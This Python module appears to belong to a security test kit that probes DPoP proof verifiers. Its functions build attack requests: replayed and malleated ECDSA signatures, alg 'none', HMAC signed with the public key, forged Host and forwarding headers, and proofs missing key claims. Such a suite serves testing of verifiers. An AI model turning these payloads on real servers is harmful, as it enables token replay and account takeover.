"""The ways in: what an attacker sends, made of the bag's loot. Each says so in its first line."""

from __future__ import annotations

import hmac
import secrets
from collections.abc import Callable

from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from dialtone_kit.attacks.bag import EVIL, Bag, owner
from dialtone_kit.attacks.calls import Call, NotTried
from dialtone_kit.attacks.victim import PublishedKey
from dialtone_kit.base.jws import b64url, b64url_decode
from dialtone_kit.keys import ProofKey
from dialtone_kit.rules import access_token_hash

Way = Callable[[Bag], Call]
DAY = 24 * 3600  # seconds
_ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551  # of P-256


def by_my_own_key(bag: Bag) -> Call:
    """The token, with a proof by a key of the attacker's."""
    return with_proof(bag, owner(bag).proof(bag.target, key=ProofKey.generate()))


def used_again(bag: Bag) -> Call:
    """The token, with a proof that the agent has just used."""
    return with_proof(bag, bag.P1)


def used_with_more(bag: Bag) -> Call:
    """A used proof, in a request with one more header field."""
    return with_proof(bag, bag.P1, ("X-Request-Id", secrets.token_hex(8)))


def used_respelled(bag: Bag) -> Call:
    """A used proof, with the other good signature that everyone can compute from it."""
    text, _, signature = bag.P1.rpartition(".")
    raw = b64url_decode(signature)
    other = (_ORDER - int.from_bytes(raw[32:], "big")).to_bytes(32, "big")
    return with_proof(bag, f"{text}.{b64url(raw[:32] + other)}")


def no_jti(bag: Bag) -> Call:
    """The token, with a proof that has no `jti` to remember."""
    return with_proof(bag, owner(bag).proof(bag.target, jti=None))


def any_signature(bag: Bag) -> Call:
    """The agent's header, the attacker's claims, and 64 random bytes."""
    return with_proof(bag, f"{_unsigned(bag)}.{b64url(secrets.token_bytes(64))}")


def no_signature(bag: Bag) -> Call:
    """The agent's header, the attacker's claims, and an empty signature."""
    return with_proof(bag, f"{_unsigned(bag)}.")


def other_method(bag: Bag) -> Call:
    """The token, with a proof for another method."""
    return with_proof(bag, bag.P2)


def no_method(bag: Bag) -> Call:
    """The token, with a proof that names no method."""
    return with_proof(bag, owner(bag).proof(bag.target, htm=None))


def other_url(bag: Bag) -> Call:
    """The token, with a proof that the agent made for another host."""
    return with_proof(bag, bag.P3)


def forged_host(bag: Bag) -> Call:
    """A proof for another host, and a Host header that fits it."""
    return with_proof(bag, bag.P3, ("Host", EVIL))


def forged_forwarding(bag: Bag) -> Call:
    """A proof for another host, and a proxy's headers that fit it."""
    return with_proof(bag, bag.P3, ("X-Forwarded-Host", EVIL), ("Forwarded", f"host={EVIL}"))


def no_url(bag: Bag) -> Call:
    """The token, with a proof that names no URL."""
    return with_proof(bag, owner(bag).proof(bag.target, htu=None))


def moved_proof(bag: Bag) -> Call:
    """The token, with a proof that was made for another one."""
    return with_proof(bag, bag.P4)


def proof_for_no_token(bag: Bag) -> Call:
    """The token, with a proof that names none, as it goes to a token endpoint."""
    return with_proof(bag, owner(bag).proof(bag.target, ath=None))


def half_a_hash(bag: Bag) -> Call:
    """The token, with a proof whose `ath` only begins like its hash."""
    right = access_token_hash(bag.T)
    ath = right[:8] + b64url(secrets.token_bytes(32))[8:]
    return with_proof(bag, owner(bag).proof(bag.target, ath=ath))


def old_proof(bag: Bag) -> Call:
    """The token, with a proof that is half an hour old."""
    return with_proof(bag, bag.P5)


def proof_of_tomorrow(bag: Bag) -> Call:
    """The token, with a proof that is dated a day ahead."""
    return _dated(bag, DAY)


def stale_proof(bag: Bag) -> Call:
    """The token, with a proof that is minutes old: used ones of that age are forgotten by now."""
    return _dated(bag, -owner(bag).stale)


def early_proof(bag: Bag) -> Call:
    """The token, with a proof that is dated minutes ahead: it outlives the memory of its use."""
    return _dated(bag, owner(bag).stale)


def no_time(bag: Bag) -> Call:
    """The token, with a proof that says no time."""
    return with_proof(bag, owner(bag).proof(bag.target, iat=None))


def minted_ahead(bag: Bag) -> Call:
    """The token, with a proof signed in advance: no nonce is in it."""
    if not owner(bag).nonce:
        raise NotTried("this verifier hands out no nonce")
    return with_proof(bag, owner(bag).proof(bag.target, nonce=None))


def another_typ(bag: Bag) -> Call:
    """The token, with a JWT of another type."""
    return with_proof(bag, bag.P6)


def registered_typ(bag: Bag) -> Call:
    """The token, with a JWT of the type at+jwt, as access tokens have it."""
    return with_proof(bag, owner(bag).proof(bag.target, header={"typ": "at+jwt"}))


def no_typ(bag: Bag) -> Call:
    """The token, with a JWT that has no type."""
    return with_proof(bag, owner(bag).proof(bag.target, header={"typ": None}))


def second_proof_behind(bag: Bag) -> Call:
    """A good proof, and one by the attacker's key behind it."""
    return with_proof(bag, owner(bag).proof(bag.target), ("DPoP", _mine(bag)))


def second_proof_before(bag: Bag) -> Call:
    """A good proof, and one by the attacker's key before it."""
    return with_proof(bag, _mine(bag), ("DPoP", owner(bag).proof(bag.target)))


def two_in_one_field(bag: Bag) -> Call:
    """A good proof and one by the attacker's key, joined by a comma as some proxies do."""
    return with_proof(bag, f"{owner(bag).proof(bag.target)},{_mine(bag)}")


def alg_none(bag: Bag) -> Call:
    """`alg` none, and nothing behind the last dot."""
    return with_proof(bag, f"{_unsigned(bag, alg='none')}.")


def hmac_by_public_key(bag: Bag) -> Call:
    """`alg` HS256, keyed with the agent's public key as PEM."""
    text = _unsigned(bag, alg="HS256")
    mac = hmac.digest(_pem(owner(bag).key), text.encode(), "sha256")
    return with_proof(bag, f"{text}.{b64url(mac)}")


def private_jwk(bag: Bag) -> Call:
    """A proof by a key whose private half is in its `jwk`."""
    victim, key = owner(bag), PublishedKey()
    token = victim.token("token", key)
    header = {"jwk": key.private_jwk}
    return victim.call(
        bag.target, victim.proof(bag.target, key=key, token=token, header=header), token
    )


def as_bearer(bag: Bag) -> Call:
    """The token under Bearer, and no proof."""
    return _bare(bag, "Bearer")


def without_proof(bag: Bag) -> Call:
    """The token under DPoP, and no proof."""
    return _bare(bag, "DPoP")


def with_proof(bag: Bag, proof: str, *more: tuple[str, str]) -> Call:
    """The agent's token with `proof`, and more header fields."""
    call = owner(bag).call(bag.target, proof)
    return Call(call.method, call.url, (*call.fields, *more))


def _dated(bag: Bag, seconds: int) -> Call:
    return with_proof(bag, owner(bag).proof(bag.target, iat=int(owner(bag).now()) + seconds))


def _bare(bag: Bag, scheme: str) -> Call:
    authorization = ("Authorization", f"{scheme} {bag.T}")
    return Call(bag.target.method, bag.target.url, (authorization,))


def _mine(bag: Bag) -> str:
    return owner(bag).proof(bag.target, key=ProofKey.generate())


def _unsigned(bag: Bag, **header: str) -> str:
    return owner(bag).unsigned(bag.target, header=header)


def _pem(key: ProofKey) -> bytes:
    x, y = (b64url_decode(key.public_jwk[name]) for name in ("x", "y"))
    public = ec.EllipticCurvePublicKey.from_encoded_point(ec.SECP256R1(), b"\x04" + x + y)
    return public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
